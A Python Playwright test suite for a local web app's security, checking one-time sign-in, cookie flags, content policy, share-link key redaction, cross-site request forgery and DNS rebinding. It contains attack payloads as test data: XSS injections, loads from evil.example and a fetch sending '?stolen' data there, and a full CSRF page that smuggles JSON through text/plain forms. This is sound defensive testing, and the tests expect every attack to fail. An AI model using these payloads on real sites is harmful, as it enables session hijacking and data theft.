"""The page, and pages of attackers, in a real browser."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest

from clew.server.access.shares import add_share, link
from tests.server.conftest import TOKEN, Running
from tests.support.browsers import PATIENCE
from tests.support.waiting import until

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    opened = browser.new_context()
    opened.set_default_timeout(PATIENCE)
    yield opened
    opened.close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    site = Attacker()
    yield site
    site.close()


class Attacker:
    """A page of somebody else, on another port of this machine and under names of its own."""

    def __init__(self) -> None:
        site = self
        self.body = b"<!doctype html><title>evil</title>"
        self.asked: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(site.body)

            def log_message(self, *_: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def code_of(server: Running) -> str:
    with server.client() as client:
        return str(client.post("/api/v1/login/codes").json()["once"])


def says(page: Page, text: str) -> None:
    """Wait until the page says who is signed in. The policy of the page lets no test run code in it."""
    page.locator("#who", has_text=text).wait_for()


def signed_in(context: BrowserContext, server: Running) -> Page:
    page = context.new_page()
    page.goto(f"{server.url}/#once={code_of(server)}")
    says(page, "signed in")
    return page


# -- our own page


def test_a_code_in_the_fragment_signs_in_and_is_gone_from_the_address(
    server: Running, context: BrowserContext
) -> None:
    server.store.create("login", title="Fix <b>the</b> login").append({"role": "user", "content": "hello"})
    asked: list[str] = []
    problems: list[str] = []
    context.on("request", lambda request: asked.append(f"{request.url} {request.headers.get('referer', '')}"))
    page = context.new_page()
    page.on("console", lambda message: problems.append(message.text))
    page.on("pageerror", lambda error: problems.append(str(error)))
    code = code_of(server)
    page.goto(f"{server.url}/#once={code}")
    says(page, "signed in as owner")
    assert page.url == f"{server.url}/"
    page.locator("#list", has_text="Fix <b>the</b> login").wait_for()  # a title is text
    assert not [line for line in asked if code in line], "a fragment reaches no server"
    assert {line.split("/")[2] for line in asked if not line.startswith("data:")} == {
        server.url.split("/")[2]
    }
    assert problems == []
    page.go_back()
    assert code not in page.url
    page.go_forward()
    assert code not in page.url
    page.reload()
    says(page, "signed in as owner")


def test_a_used_code_says_so_and_a_token_can_be_typed(server: Running, context: BrowserContext) -> None:
    code = code_of(server)
    page = context.new_page()
    page.goto(f"{server.url}/#once={code}")
    says(page, "signed in")
    page.click("#account")
    page.click("#leave")
    says(page, "not signed in")
    again = context.new_page()
    again.goto(f"{server.url}/#once={code}")
    says(again, "already used")
    again.fill("#token", TOKEN)
    again.click("button[type=submit]")
    says(again, "signed in as owner")
    assert again.locator("#token").count() == 0
    assert TOKEN not in again.content()


def test_s16_no_script_can_read_the_cookie_or_a_secret(server: Running, context: BrowserContext) -> None:
    page = signed_in(context, server)
    assert page.evaluate("document.cookie") == ""
    (cookie,) = context.cookies()
    assert cookie["name"] == f"clew-{server.url.rpartition(':')[2]}"
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0
    assert TOKEN not in page.content()


def test_the_policy_of_the_page_lets_nothing_else_run(server: Running, context: BrowserContext) -> None:
    """What an injected text could try, if there were a hole."""
    page = signed_in(context, server)
    ran = page.evaluate(
        """async () => {
            window.pwned = [];
            const tries = [
                () => { document.body.innerHTML = '<img src=x onerror="window.pwned.push(1)">'; },
                () => { const s = document.createElement('script'); s.textContent = 'window.pwned.push(2)';
                        document.body.append(s); },
                () => { const s = document.createElement('script'); s.src = 'http://evil.example/x.js';
                        document.body.append(s); },
                () => { setTimeout('window.pwned.push(3)', 0); },
                () => { const f = document.createElement('iframe'); f.src = 'http://evil.example/';
                        document.body.append(f); },
                () => { trustedTypes.createPolicy('mine', {createHTML: text => text}); pwned.push(4); },
            ];
            const refused = [];
            for (const one of tries) { try { one(); refused.push(false); } catch { refused.push(true); } }
            let left = true;
            try { await fetch('http://evil.example/?stolen'); } catch { left = false; }
            // whatever of the tries runs later, these come behind it
            await new Promise(end => { const one = new Image(); one.onerror = end; one.src = 'x'; });
            await new Promise(end => setTimeout(end, 0));
            return [window.pwned, left, refused];
        }"""
    )
    assert ran[0] == []
    assert ran[1] is False
    assert ran[2][0] is True, "markup from text is refused by Trusted Types"
    assert ran[2][5] is True, "no policy of Trusted Types can be made"


def test_a_share_link_shows_the_session_without_a_sign_in(server: Running, context: BrowserContext) -> None:
    session = server.store.create("login", title="Shared")
    session.append({"role": "user", "content": "<b>Please</b> fix it"})
    session.append({"role": "assistant", "content": "key sk-ant-api03-" + "a7" * 45 + "AA"})
    _, token = add_share(server.store, session, at=session.head)
    owner = signed_in(context, server)
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(link(server.url, token))
    says(page, "shared: Shared")
    page.locator("#transcript", has_text="REDACTED").wait_for()
    shown = page.inner_text("#transcript")
    assert "<b>Please</b> fix it" in shown
    assert "[REDACTED:anthropic-key]" in shown
    assert not [url for url in asked if token in url]
    owner.reload()
    says(owner, "signed in as owner")


# -- pages of others


CSRF = """<!doctype html><title>evil</title>
<form id="plain" method="post" action="{url}/api/v1/sessions" enctype="text/plain" target="a">
<input name='{{"id":"planted-by-form","x":"' value='"}}'></form>
<form id="coded" method="post" action="{url}/api/v1/sessions" target="b"><input name="id" value="planted-coded"></form>
<form id="login" method="post" action="{url}/api/v1/login" enctype="text/plain" target="c">
<input name='{{"token":"{token}","x":"' value='"}}'></form>
<form id="logout" method="post" action="{url}/api/v1/logout" target="d"></form>
<iframe name="a"></iframe><iframe name="b"></iframe><iframe name="c"></iframe><iframe name="d"></iframe>
<iframe id="framed" src="{url}/"></iframe>
<img id="image" src="{url}/api/v1/sessions"><script src="{url}/api/v1/sessions"></script>
<link rel="stylesheet" href="{url}/api/v1/sessions"><script src="{url}/app.js"></script>
<script>
const url = "{url}", told = [];
const json = {{"Content-Type": "application/json"}}, body = '{{"id":"planted-by-fetch"}}';
const tries = [
  ["get", () => fetch(url + "/api/v1/sessions", {{credentials: "include"}})],
  ["get no-cors", () => fetch(url + "/api/v1/sessions", {{credentials: "include", mode: "no-cors"}})],
  ["post json", () => fetch(url + "/api/v1/sessions", {{method: "POST", credentials: "include", headers: json, body}})],
  ["post plain", () => fetch(url + "/api/v1/sessions", {{method: "POST", credentials: "include", mode: "no-cors", body}})],
  ["beacon", async () => navigator.sendBeacon(url + "/api/v1/sessions", new Blob([body], {{type: "text/plain"}}))],
  ["put", () => fetch(url + "/api/v1/sessions/planted-by-put", {{method: "PUT", credentials: "include", headers: json, body: "{{}}"}})],
  ["delete", () => fetch(url + "/api/v1/sessions/mine", {{method: "DELETE", credentials: "include"}})],
  ["live", () => new Promise((yes, no) => {{ const s = new EventSource(url + "/api/v1/live", {{withCredentials: true}});
      s.onmessage = yes; s.onopen = yes; s.onerror = () => {{ s.close(); no(); }}; }})],
  ["login", () => fetch(url + "/api/v1/login", {{method: "POST", credentials: "include", headers: json, body: '{{"token":"{token}"}}'}})],
  ["with a token", () => fetch(url + "/api/v1/sessions", {{headers: {{Authorization: "Bearer {token}"}}}})],
];
window.attack = async () => {{
  for (const [name, one] of tries) {{
    try {{ const answer = await one(); let text = ""; try {{ text = await answer.text(); }} catch {{}}
          told.push([name, answer && answer.type ? answer.type : String(answer), text]); }}
    catch {{ told.push([name, "refused", ""]); }}
  }}
  for (const id of ["plain", "coded", "login", "logout"]) document.getElementById(id).submit();
  return told;
}};
</script>"""  # noqa: E501


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.example"])
def test_s15_a_page_of_another_origin_reads_and_changes_nothing(
    server: Running, context: BrowserContext, attacker: Attacker, name: str
) -> None:
    """On another port of this machine (the browser then sends the cookie), and of another site."""
    server.store.create("mine", title="secret title").append({"role": "user", "content": "secret words"})
    seen: list[tuple[str, str, int]] = []
    own = signed_in(context, server)
    context.on(
        "response",
        lambda answer: (
            seen.append((answer.request.method, answer.url, answer.status))
            if answer.frame.page != own
            else None
        ),
    )
    attacker.body = CSRF.format(url=server.url, token=TOKEN).encode()
    page = context.new_page()
    page.goto(f"http://{name}:{attacker.port}/")
    posted: list[str] = []
    server.app.on_finished.append(lambda done: posted.append(done.path) if done.method == "POST" else None)
    told = page.evaluate("window.attack()")
    until(lambda: len(posted) == 6)  # of two calls and four forms; the others have to be asked for first
    assert [info.id for info in server.store.list()] == ["mine"]
    assert len(told) == 10
    assert not [one for one in told if "secret" in one[2]], told
    readable = [one for one in told if one[1] in ("basic", "cors")]
    assert readable == [], "no answer can be read"
    assert "secret" not in page.content()
    assert page.evaluate("document.getElementById('image').naturalWidth") == 0
    assert page.evaluate("typeof window.root") == "undefined", "nor does our script run there"
    frame = page.frame(url=re.compile("^" + re.escape(server.url)))
    assert frame is None or "signed in" not in frame.content(), "our page is not shown in a frame"
    wrong = [
        one for one in seen
        if one[1].startswith(f"{server.url}/api/") and one[2] < 400 and one[0] != "OPTIONS"
    ]  # fmt: skip
    assert [one for one in wrong if "/logout" not in one[1]] == []
    own.reload()
    says(own, "signed in as owner")


def test_s14_a_name_that_was_rebound_to_this_machine_is_refused(server: Running, browser: Browser) -> None:
    """The attacker's name leads to 127.0.0.1 by now, so for the browser it is one origin with the server. The
    attacker's own page has no policy that forbids anything."""
    port = server.url.rpartition(":")[2]
    context = browser.new_context(bypass_csp=True)
    signed_in(context, server)
    page = context.new_page()
    answer = page.goto(f"http://rebound.example:{port}/")
    assert answer is not None
    assert answer.status == 421
    told = page.evaluate(
        """async token => {
            const found = [];
            for (const path of ["/api/v1/sessions", "/api/v1/me", "/health", "/app.js", "/api/v1/live"]) {
                const answer = await fetch(path, {headers: {Authorization: "Bearer " + token}});
                found.push(answer.status);
            }
            const made = await fetch("/api/v1/sessions", {method: "POST", body: '{"id": "planted"}',
                headers: {"Content-Type": "application/json", Authorization: "Bearer " + token}});
            found.push(made.status);
            return found;
        }""",
        TOKEN,
    )
    context.close()
    assert told == [421] * 6
    assert server.store.find("planted") is None


def test_s14_and_s15_the_address_that_means_all_addresses_is_refused(
    server: Running, context: BrowserContext, attacker: Attacker
) -> None:
    port = server.url.rpartition(":")[2]
    page = context.new_page()
    page.goto(f"http://evil.example:{attacker.port}/")
    told = page.evaluate(
        "async url => { try { return (await fetch(url, {mode: 'no-cors'})).type } catch { return 'no' } }",
        f"http://0.0.0.0:{port}/api/v1/sessions",
    )
    assert told in ("no", "opaque")
    with server.client() as client:
        assert client.get("/health", headers={"host": f"0.0.0.0:{port}"}).status_code == 421


def test_a_page_of_an_origin_that_is_allowed_calls_with_a_token_and_gets_no_cookie(
    serve: Any, context: BrowserContext, attacker: Attacker
) -> None:
    server = serve(cors=(f"http://evil.example:{attacker.port}",))
    signed_in(context, server)
    page = context.new_page()
    page.goto(f"http://evil.example:{attacker.port}/")
    told = page.evaluate(
        """async ([url, token]) => {
            const good = await fetch(url, {method: "POST", body: '{"id": "allowed"}',
                headers: {"Content-Type": "application/json", Authorization: "Bearer " + token}});
            const out = [good.status, good.headers.get("location")];
            try { await fetch(url, {credentials: "include"}); out.push("read"); }
            catch { out.push("refused"); }
            return out;
        }""",
        [f"{server.url}/api/v1/sessions", TOKEN],
    )
    assert told == [201, "/api/v1/sessions/allowed", "refused"]
